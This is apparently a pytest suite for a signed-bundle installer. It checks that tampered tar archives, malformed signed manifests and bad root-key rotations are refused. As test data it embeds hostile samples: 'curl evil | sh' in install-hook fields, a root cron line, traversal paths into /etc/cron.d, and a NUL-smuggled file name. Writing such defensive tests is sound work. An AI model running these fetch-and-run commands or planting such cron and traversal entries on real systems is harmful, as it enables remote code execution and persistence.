def test_member_appended_after_the_end_marker(installed_host: Host, good: Good) -> None:
    """tar -i would extract it; the reader allows only zeros after the marker."""
    appended = Member("payload/zz.sh", b"#!/bin/sh\n").encode() + END_MARKER
    refuse(
        installed_host,
        good.with_members(good.members, trailer=appended),
        FormatError,
        "bundle: data after the end-of-archive marker",
    )


def test_lone_zero_block(installed_host: Host, good: Good) -> None:
    """One zero block, then more members: some readers stop there, some go on."""
    extra = Member("payload/zz.sh", b"#!/bin/sh\n").encode()
    data = good.with_members(good.members, end=bytes(BLOCK) + extra + END_MARKER)
    refuse(installed_host, data, FormatError, "bundle: lone zero block before member 5")


def test_non_zero_padding(installed_host: Host, good: Good) -> None:
    content = good.payload["model/tiny.gguf"]
    pad = b"hidden".ljust(padded(len(content)) - len(content), b"\x00")
    members = [*good.members[:3], Member(MODEL, content, padding=pad), *good.members[4:]]
    refuse(
        installed_host,
        good.with_members(members),
        FormatError,
        f"bundle: non-zero padding after member {MODEL!r}",
    )


# -- headers that are not plain POSIX ustar ----------------------------------------------------


@pytest.mark.parametrize("index", [0, 3])
def test_bad_header_checksum(installed_host: Host, good: Good, index: int) -> None:
    member = good.members[index]
    good_header = ustar_header(member.name, len(member.data))
    stored = int(good_header[148:154], 8)
    members = list(good.members)
    members[index] = replace(
        member, header=ustar_header(member.name, len(member.data), checksum=stored + 1)
    )
    refuse(
        installed_host,
        good.with_members(members),
        FormatError,
        f"bundle: bad header checksum in member {index}",
    )


def test_checksum_computed_with_signed_bytes(installed_host: Host, good: Good) -> None:
    """Some old tars sum header bytes as signed chars; the format requires unsigned."""
    data = "é".encode()
    header = ustar_header("payload/é", len(data))
    signed_sum = sum(b - 256 if b > 127 else b for b in header[:148] + b" " * 8 + header[156:])
    evil = Member(
        "payload/é", data, header=ustar_header("payload/é", len(data), checksum=signed_sum)
    )
    members = [*good.members[:3], evil, *good.members[4:]]
    refuse(
        installed_host,
        good.with_members(members),
        FormatError,
        "bundle: bad header checksum in member 3",
    )


@pytest.mark.parametrize(
    "magic", [GNU_MAGIC, bytes(8), b"ustar\x0001"], ids=["gnu", "v7", "version-01"]
)
def test_header_not_posix_ustar(installed_host: Host, good: Good, magic: bytes) -> None:
    content = good.payload["model/tiny.gguf"]
    header = ustar_header(MODEL, len(content), magic=magic)
    members = [*good.members[:3], Member(MODEL, content, header=header), *good.members[4:]]
    refuse(
        installed_host,
        good.with_members(members),
        FormatError,
        "bundle: member 3 is not a POSIX ustar header",
    )


@pytest.mark.parametrize("index", [1, 3])
def test_base256_size(installed_host: Host, good: Good, index: int) -> None:
    member = good.members[index]
    members = list(good.members)
    members[index] = replace(
        member, header=ustar_header(member.name, size_field=base256(len(member.data)))
    )
    refuse(
        installed_host,
        good.with_members(members),
        FormatError,
        f"bundle: size of member {member.name!r} uses base-256 encoding",
    )


def test_base256_size_claiming_ten_gib(installed_host: Host, good: Good) -> None:
    members = list(good.members)
    members[1] = replace(
        members[1], header=ustar_header("manifest.json", size_field=base256(TEN_GIB))
    )
    refuse(
        installed_host,
        good.with_members(members),
        FormatError,
        "bundle: size of member 'manifest.json' uses base-256 encoding",
    )


@pytest.mark.parametrize(
    "field", [b"0000000001x\x00", b"-0000000001\x00", bytes(12), b"00000 00014\x00"]
)
def test_size_not_octal(installed_host: Host, good: Good, field: bytes) -> None:
    content = good.payload["model/tiny.gguf"]
    header = ustar_header(MODEL, size_field=field)
    members = [*good.members[:3], Member(MODEL, content, header=header), *good.members[4:]]
    refuse(
        installed_host,
        good.with_members(members),
        FormatError,
        f"bundle: size of member {MODEL!r} is not an octal number",
    )


def test_name_with_data_after_its_terminator(installed_host: Host, good: Good) -> None:
    """'payload/recipe.toml\\0../../x': readers disagree on which name this is."""
    content = good.payload["recipe.toml"]
    header = ustar_header(RECIPE.encode() + b"\x00../../x", len(content))
    members = [*good.members[:4], Member(RECIPE, content, header=header)]
    refuse(
        installed_host,
        good.with_members(members),
        FormatError,
        "bundle: member 4 name has data after its terminator",
    )


def test_wrong_format_marker(installed_host: Host, good: Good) -> None:
    members = [Member("format", b"airgap-appliance-bundle 2\n"), *good.members[1:]]
    refuse(
        installed_host,
        good.with_members(members),
        FormatError,
        "bundle: unknown format marker (not an airgap-appliance bundle v1)",
    )


def test_edited_header_with_fixed_checksum_still_needs_a_valid_name(
    installed_host: Host, good: Good
) -> None:
    """set_checksum lets an attacker fix the checksum after editing: the other checks hold."""
    data = good.data
    at = offset_of(data, 4)
    header = bytearray(data[at : at + BLOCK])
    header[0:8] = b"/etc/cro"
    data = data[:at] + set_checksum(bytes(header)) + data[at + BLOCK :]
    refuse(installed_host, data, FormatError, "bundle member: absolute path '/etc/cro")


# -- signed, but malformed manifests (a compromised or buggy signer; V5) ----------------------


def _signed_manifest_dict(good: Good, change: Callable[[dict[str, Any]], None]) -> bytes:
    value = good.manifest.to_dict()
    change(value)
    return encode_canonical(value)


def test_signed_manifest_with_traversal_entry(installed_host: Host, good: Good) -> None:
    """Defence in depth: even a threshold of signers cannot make the installer write
    outside the slot."""
    evil = b"* * * * * root sh -c pwned\n"
    entry = Entry(
        path="../../../etc/cron.d/evil",
        size=len(evil),
        sha256=hashlib.sha256(evil).hexdigest(),
        kind="file",
    )
    manifest = replace(good.manifest, entries=(entry, *good.manifest.entries))
    payload = {**good.payload, entry.path: evil}
    data = good.sim.bundle_bytes(manifest, payload)
    refuse(
        installed_host,
        data,
        FormatError,
        "manifest entry: path '../../../etc/cron.d/evil' has an empty, '.' or '..' component",
    )


def test_signed_manifest_with_absolute_entry(installed_host: Host, good: Good) -> None:
    evil = b"pwned\n"
    entry = Entry(
        path="/etc/evil", size=len(evil), sha256=hashlib.sha256(evil).hexdigest(), kind="file"
    )
    manifest = replace(good.manifest, entries=(entry, *good.manifest.entries))
    data = good.sim.bundle_bytes(manifest, {**good.payload, entry.path: evil})
    refuse(installed_host, data, FormatError, "manifest entry: absolute path '/etc/evil'")


def test_signed_manifest_with_unknown_field(installed_host: Host, good: Good) -> None:
    raw = _signed_manifest_dict(good, lambda v: v.update(post_install="curl evil | sh"))
    refuse(
        installed_host, good.resigned(raw), FormatError, "manifest: unknown field 'post_install'"
    )


def test_signed_manifest_of_another_format_version(installed_host: Host, good: Good) -> None:
    raw = _signed_manifest_dict(good, lambda v: v.update(format_version=2))
    refuse(
        installed_host,
        good.resigned(raw),
        FormatError,
        "manifest: format_version 2 is not supported",
    )


MALFORMED_SIGNED = [
    # Regressions: these used to escape as TypeError/ValueError (a traceback, no audit record).
    (lambda v: v["entries"][1].update(kind=["recipe"]), "unknown kind ['recipe']"),
    (
        lambda v: v["runtime"].update(backend={"name": "llama.cpp"}),
        "manifest: runtime.backend must be one of ['llama.cpp', 'transformers']",
    ),
    (lambda v: v.update(version="1" * 5000), "version is longer than 64 characters"),
    (lambda v: v.update(version="latest"), "version 'latest' is not a valid version"),
    (lambda v: v["runtime"].update(pre_start="curl evil | sh"), "unknown runtime setting"),
    (lambda v: v["runtime"].update(context_size=-1), "runtime.context_size must be an integer"),
]


@pytest.mark.parametrize(
    ("change", "match"),
    MALFORMED_SIGNED,
    ids=["list-kind", "object-backend", "long-version", "bad-version", "runtime-key", "ctx"],
)
def test_signed_manifest_with_malformed_values(
    installed_host: Host, good: Good, change: Callable[[dict[str, Any]], None], match: str
) -> None:
    raw = _signed_manifest_dict(good, change)
    refuse(installed_host, good.resigned(raw), FormatError, match)


# -- root rotation -------------------------------------------------------------------------------


@pytest.fixture
def rotation_host(tmp_path: Path) -> Host:
    """A host whose root needs 2 of 3 root keys, with demo 1.0.0 installed."""
    sim = BundleSimulator(root_keys=3, root_threshold=2)
    made = Host(root=tmp_path / "host", bundles=tmp_path / "bundles", sim=sim)
    made.trust_init()
    made.install(sim.bundle("1.0.0"))
    return made


def _trust_update(host: Host, data: bytes) -> Callable[[], object]:
    return lambda: host.appliance.trust_update(data)


@pytest.mark.parametrize(
    ("who", "match"),
    [
        ("new-only", "not signed by a threshold of the trusted root (version 1) keys"),
        (
            "one-old-and-new",
            "not signed by a threshold of the trusted root (version 1) keys: "
            "1 of 2 required signatures from role 'root'",
        ),
        ("old-only", "not signed by a threshold of its own (version 2) root keys"),
        ("nobody", "root rotation to version 2: the new root carries no signatures"),
    ],
)
def test_root_rotation_without_the_thresholds(rotation_host: Host, who: str, match: str) -> None:
    sim = rotation_host.sim
    old = sim.history[-1]
    old_bundle_keys = old.bundle_keys
    new_root_keys = make_keys(3)
    signers = {
        "new-only": new_root_keys,
        "one-old-and-new": [old.root_keys[0], *new_root_keys],
        "old-only": old.root_keys,
        "nobody": [],
    }[who]
    sim.root_keys = new_root_keys
    data = sim.rotate(bundle_keys=2, signers=signers)
    assert_refused(
        rotation_host,
        RotationError,
        match,
        _trust_update(rotation_host, data),
        event="trust-update",
    )
    # The would-be bundle keys are not trusted; the old ones still are.
    manifest, payload = sim.manifest(version=V2)
    refuse(rotation_host, sim.bundle_bytes(manifest, payload), SignatureError, "unknown keyid")
    assert rotation_host.install(sim.bundle_bytes(manifest, payload, old_bundle_keys)).version == V2


def test_root_rotation_skipping_a_version(rotation_host: Host) -> None:
    data = rotation_host.sim.rotate(root_keys=3, bundle_keys=2, version=3)
    assert_refused(
        rotation_host,
        RotationError,
        "root rotation: version 3 does not follow trusted version 1",
        _trust_update(rotation_host, data),
        event="trust-update",
    )


def test_root_rotation_replaying_the_trusted_root(rotation_host: Host) -> None:
    data = rotation_host.sim.root_bytes()
    assert_refused(
        rotation_host,
        RotationError,
        "root rotation: version 1 does not follow trusted version 1",
        _trust_update(rotation_host, data),
        event="trust-update",
    )


def test_root_rotation_to_an_expired_root(rotation_host: Host) -> None:
    sim = rotation_host.sim
    expires = sim.now - timedelta(days=1)
    data = sim.rotate(root_keys=3, bundle_keys=2, expires=expires)
    assert_refused(
        rotation_host,
        ExpiredError,
        f"root version 2 expired at {format_time(expires)}",
        _trust_update(rotation_host, data),
        event="trust-update",
    )


def test_root_rotation_accepted(rotation_host: Host) -> None:
    """Signed by 2 of 3 old AND 2 of 3 new root keys: accepted; then only the new bundle
    keys count."""
    sim = rotation_host.sim
    old = sim.history[-1]
    new_root_keys = make_keys(3)
    sim.root_keys = new_root_keys
    data = sim.rotate(bundle_keys=3, signers=[*old.root_keys[1:], *new_root_keys[:2]])
    assert rotation_host.appliance.trust_update(data) == 2
    record = rotation_host.last_audit()
    assert (record["event"], record["outcome"], record["root_version"]) == ("trust-update", "ok", 2)
    manifest, payload = sim.manifest(version=V2)
    refuse(
        rotation_host,
        sim.bundle_bytes(manifest, payload, old.bundle_keys),
        SignatureError,
        f"0 of 2 required signatures from role 'bundle'; unknown keyid "
        f"{short_keyid(min(k.keyid for k in old.bundle_keys))}",
    )
    slot = rotation_host.install(sim.bundle_bytes(manifest, payload, sim.bundle_keys[1:]))
    assert slot.version == V2
    assert set(slot.signers) == {k.keyid for k in sim.bundle_keys[1:]}
